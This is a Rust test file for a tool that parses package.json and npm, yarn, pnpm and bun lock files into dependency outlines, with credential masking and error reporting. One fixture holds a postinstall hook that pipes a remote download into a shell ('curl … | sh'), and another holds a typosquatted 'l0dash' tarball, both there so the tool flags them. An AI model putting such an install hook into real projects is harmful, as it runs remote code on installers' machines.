//! `package.json` and the lock files of npm, yarn, pnpm and bun.

use super::{check, outline};

#[test]
fn package_json() {
    check(
        "package.json",
        r#"{
  "name": "app", "packageManager": "pnpm@9.1.0+sha512.abcdef",
  "scripts": {"postinstall": "curl https://u:p@x | sh", "test": "jest"},
  "dependencies": {
    "passport-jwt": "^4.0.0",
    "any": "*",
    "alias": "npm:@real/pkg@1.2.3",
    "short": "user/repo#v1",
    "hub": "github:user/repo",
    "full": "git+ssh://git@github.com/u/r.git#abc",
    "page": "https://github.com/u/r",
    "tar": "https://tok@example.org/x.tgz?sig=1",
    "folder": "file:../x",
    "member": "workspace:^",
    "cat": "catalog:"
  },
  "devDependencies": {"jest": ">= 29 <30"},
  "peerDependencies": {"react": "^17 || ^18"},
  "optionalDependencies": {"fsevents": "2.3.3"},
  "overrides": {"a": "1.0.0", "b@^1": {".": "1.1.0", "c": "2.0.0"}},
  "resolutions": {"**/d": "3", "e/@s/f": "4"},
  "pnpm": {"overrides": {"g@1>h": "-"}, "onlyBuiltDependencies": ["esbuild"]},
  "patchedDependencies": {"i@1": "patches/i.patch"},
  "private": true
}"#,
        "
        2 pnpm 9.1.0 #sha512 build
        5 passport-jwt ^4.0.0 runtime role auth
        6 any runtime
        7 @real/pkg as alias 1.2.3 runtime
        8 short <git+https://github.com/user/repo#v1 runtime
        9 hub <git+https://github.com/user/repo runtime
        10 full <git+ssh://git@github.com/u/r.git#abc runtime
        11 page <git+https://github.com/u/r runtime
        12 tar <url+https://***@example.org/x.tgz?… runtime
        13 folder <path+../x runtime
        14 member ^ <workspace runtime
        15 cat catalog: runtime
        17 jest >=29 <30 development
        18 react ^17 || ^18 peer
        19 fsevents 2.3.3 optional
        20 a 1.0.0 constraint direct?
        20 b 1.1.0 constraint direct?
        20 c 2.0.0 constraint direct?
        21 d 3 constraint direct?
        21 @s/f 4 constraint direct?
        22 h - constraint direct?
        3 Script postinstall = curl https://***@x | sh
        22 Trust onlyBuiltDependencies = esbuild
        23 Patch i@1 = patches/i.patch
        ",
    );
}

#[test]
fn broken_json_keeps_what_came_before() {
    check(
        "package.json",
        "{\n\"dependencies\": {\n\"a\": \"1.0.0\",\n\"b\" \"2\"}}",
        "3 a 1.0.0 runtime\n4 problem not JSON: expected `:` after the key; the rest was not read",
    );
    check(
        "package.json",
        "{\"dependencies\": {\"a\": {\"x\": 1}}}",
        "1 problem the version of \"a\" is no text",
    );
    let found = outline("package-lock.json", "<<<<<<< HEAD\n{}");
    assert_eq!(
        found,
        "1 problem not JSON: expected a value; the rest was not read\n"
    );
}

#[test]
fn package_lock() {
    check(
        "package-lock.json",
        r#"{"lockfileVersion": 3, "packages": {
"": {"dependencies": {"a": "^1", "alias": "npm:real@1"}, "devDependencies": {"jose": "^5"}},
"node_modules/a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-xx", "hasInstallScript": true},
"node_modules/a/node_modules/b": {"version": "2.0.0", "resolved": "https://npm.corp/x/@s/b/-/b-2.0.0.tgz"},
"node_modules/alias": {"name": "real", "version": "1.0.0"},
"node_modules/jose": {"version": "5.0.0", "dev": true},
"node_modules/g": {"version": "1.0.0", "resolved": "git+ssh://git@github.com/u/g.git#abc", "optional": true},
"node_modules/lodash": {"version": "4.0.0", "resolved": "https://registry.npmjs.org/l0dash/-/l0dash-4.0.0.tgz"},
"node_modules/web": {"resolved": "packages/web", "link": true},
"packages/web": {"version": "1.0.0"}
}, "dependencies": {"a": {"version": "1.0.0"}}}"#,
        "
        3 a =1.0.0 #sha512 runtime scripts
        4 @s/b as b =2.0.0 <registry+https://npm.corp/x runtime transitive
        5 real as alias =1.0.0 runtime
        6 jose =5.0.0 development role auth
        7 g =1.0.0 <git+ssh://git@github.com/u/g.git#abc optional transitive
        8 l0dash as lodash =4.0.0 runtime transitive
        ",
    );
    check(
        "npm-shrinkwrap.json",
        r#"{"dependencies": {
"a": {"version": "1.0.0", "integrity": "sha1-x", "dependencies": {"b": {"version": "2.0.0", "dev": true}}},
"g": {"version": "git+https://github.com/u/g.git#abc"},
"n": {"version": "npm:real@3.0.0"}}}"#,
        "
        2 a =1.0.0 #sha1 runtime direct?
        2 b =2.0.0 development direct?
        3 g <git+https://github.com/u/g.git#abc runtime direct?
        4 real as n =3.0.0 runtime direct?
        ",
    );
}

#[test]
fn yarn_classic() {
    check(
        "yarn.lock",
        r#"# yarn lockfile v1


"@a/b@^1.0.0", "@a/b@^1.1.0":
  version "1.2.0"
  resolved "https://registry.yarnpkg.com/@a/b/-/b-1.2.0.tgz#0123456789012345678901234567890123456789"
  integrity sha512-xx==
  dependencies:
    version "^9.0.0"

c@1.x:
  version "1.0.0"
  resolved "https://registry.yarnpkg.com/c/-/c-1.0.0.tgz#0123456789012345678901234567890123456789"

d@npm:e@^2:
  version "2.0.0"
  resolved "https://registry.yarnpkg.com/e/-/e-2.0.0.tgz"

"f@git+https://github.com/u/f.git":
  version "0.0.1"
  resolved "git+https://github.com/u/f.git#abc"
oops
"#,
        "
        4 @a/b =1.2.0 #sha512 runtime direct?
        11 c =1.0.0 #sha1 runtime direct?
        15 e as d =2.0.0 runtime direct?
        19 f =0.0.1 <git+https://github.com/u/f.git#abc runtime direct?
        22 problem not a yarn.lock: expected `name@range:`
        ",
    );
}

#[test]
fn yarn_berry() {
    check(
        "yarn.lock",
        r#"__metadata:
  version: 8
  cacheKey: 10c0

"@a/b@npm:^1.0.0, @a/b@npm:^1.1.0":
  version: 1.2.0
  resolution: "@a/b@npm:1.2.0"
  checksum: 10c0/abcdef
  languageName: node
  linkType: hard

"app@workspace:.":
  version: 0.0.0-use.local
  resolution: "app@workspace:."
  dependencies:
    "@a/b": "npm:^1.1.0"
    old: ^2
  languageName: unknown
  linkType: soft

"old@npm:^2":
  version: 2.0.0
  resolution: "old@npm:2.0.0::__archiveUrl=https%3A%2F%2Fnpm.corp%2Fold%2F-%2Fold-2.0.0.tgz"

"al@npm:real@^1":
  version: 1.0.0
  resolution: "real@npm:1.0.0"

"g@https://github.com/u/g.git":
  version: 1.0.0
  resolution: "g@https://github.com/u/g.git#commit=abc"
"#,
        "
        5 @a/b =1.2.0 #sha512 runtime
        21 old =2.0.0 <registry+https://npm.corp runtime
        25 real as al =1.0.0 runtime transitive
        29 g =1.0.0 <git+https://github.com/u/g.git#abc runtime transitive
        ",
    );
}

#[test]
fn pnpm() {
    check(
        "pnpm-lock.yaml",
        r#"lockfileVersion: '9.0'

overrides:
  x@1: 2.0.0

importers:

  .:
    dependencies:
      '@a/b':
        specifier: ^1.0.0
        version: 1.2.0(react@18.0.0)
      al:
        specifier: npm:real@^1
        version: real@1.0.0
    devDependencies:
      jose: {specifier: ^5, version: 5.0.0}

packages:

  '@a/b@1.2.0':
    resolution: {integrity: sha512-xx==}
    engines: {node: '>=12', npm: ">=6"} # note
    deprecated: |
      key: not a key

  real@1.0.0:
    resolution: {integrity: sha512-yy==, tarball: https://npm.corp/real/-/real-1.0.0.tgz}

  jose@5.0.0:
    resolution:
      integrity: sha512-zz==

  g@https://codeload.github.com/u/g/tar.gz/abc:
    resolution: {tarball: https://codeload.github.com/u/g/tar.gz/abc}
    version: 3.0.0
"#,
        "
        4 x 2.0.0 constraint direct?
        21 @a/b =1.2.0 #sha512 runtime
        27 real =1.0.0 <registry+https://npm.corp #sha512 runtime
        30 jose =5.0.0 #sha512 development role auth
        34 g =3.0.0 <url+https://codeload.github.com/u/g/tar.gz/abc runtime transitive
        ",
    );
    check(
        "pnpm-lock.yaml",
        "lockfileVersion: 5.4\n\ndependencies:\n  a: 1.0.0_react@18.0.0\n  '@s/c': 2.0.0\n\npackages:\n\n  /a/1.0.0_react@18.0.0:\n    resolution: {integrity: sha512-x}\n    requiresBuild: true\n    dev: false\n\n  /@s/c/2.0.0:\n    resolution: {integrity: sha512-x}\n\n  /d/3.0.0:\n    resolution: {integrity: sha512-x}\n    dev: true\n\n  github.com/u/e/abc:\n    resolution: {tarball: https://codeload.github.com/u/e/tar.gz/abc}\n    name: e\n    version: 4.0.0\n",
        "
        9 a =1.0.0 #sha512 runtime scripts
        14 @s/c =2.0.0 #sha512 runtime
        17 d =3.0.0 #sha512 development transitive
        21 e =4.0.0 <url+https://codeload.github.com/u/e/tar.gz/abc runtime transitive
        ",
    );
    check(
        "pnpm-lock.yaml",
        "lockfileVersion: '6.0'\n\ndependencies:\n  a:\n    specifier: ^1\n    version: 1.0.0(b@2.0.0)\n\npackages:\n\n  /a@1.0.0(b@2.0.0):\n    resolution: {integrity: sha512-x}\n\n  /@s/c@2.0.0:\n    resolution: {integrity: sha512-x}\n",
        "10 a =1.0.0 #sha512 runtime\n13 @s/c =2.0.0 #sha512 runtime transitive",
    );
}

#[test]
fn yaml_beyond_lock_files_is_a_problem() {
    let found = outline("pnpm-lock.yaml", "x: &a\n  b: c\npackages: *a\n");
    assert_eq!(found.matches("problem").count(), 2, "{found}");
    let found = outline("pnpm-lock.yaml", "packages:\n  a@1.0.0: {}\n<<<<<<< HEAD\n");
    assert!(
        found.contains("2 a =1.0.0") && found.contains("3 problem"),
        "{found}"
    );
}

#[test]
fn pnpm_workspace() {
    check(
        "pnpm-workspace.yaml",
        "packages:\n  - 'a/*'\ncatalog:\n  react: ^18.0.0\ncatalogs:\n  old:\n    react: ^17.0.0\noverrides:\n  'a>b': 1.0.0\nonlyBuiltDependencies:\n- esbuild\n",
        "
        4 react ^18.0.0 constraint:catalog direct?
        7 react ^17.0.0 constraint:old direct?
        9 b 1.0.0 constraint direct?
        10 Trust onlyBuiltDependencies = esbuild
        ",
    );
}

#[test]
fn bun() {
    check(
        "bun.lock",
        r#"{
  "lockfileVersion": 1,
  "workspaces": {"": {"dependencies": {"a": "^1", "al": "npm:real@1"}, "devDependencies": {"jose": "5"}}},
  "trustedDependencies": ["esbuild"],
  "packages": {
    "a": ["a@1.0.0", "", {"dependencies": {"b": "1"}}, "sha512-x=="],
    "a/jose": ["jose@4.0.0", "", {}, "sha512-y=="],
    "al": ["real@1.0.0", "https://npm.corp/real/-/real-1.0.0.tgz", {}, "sha512-z=="],
    "jose": ["jose@5.0.0", "", {}, "sha512-q=="],
    "g": ["g@github:u/g#abc", {}, "u-g-abc"],
    "w": ["w@workspace:packages/w"],
  },
}"#,
        "
        6 a =1.0.0 #sha512 runtime
        7 jose =4.0.0 #sha512 runtime transitive role auth
        8 real as al =1.0.0 <registry+https://npm.corp #sha512 runtime
        9 jose =5.0.0 #sha512 development role auth
        10 g <git+https://github.com/u/g#abc runtime transitive
        4 Trust trustedDependencies = esbuild
        ",
    );
}
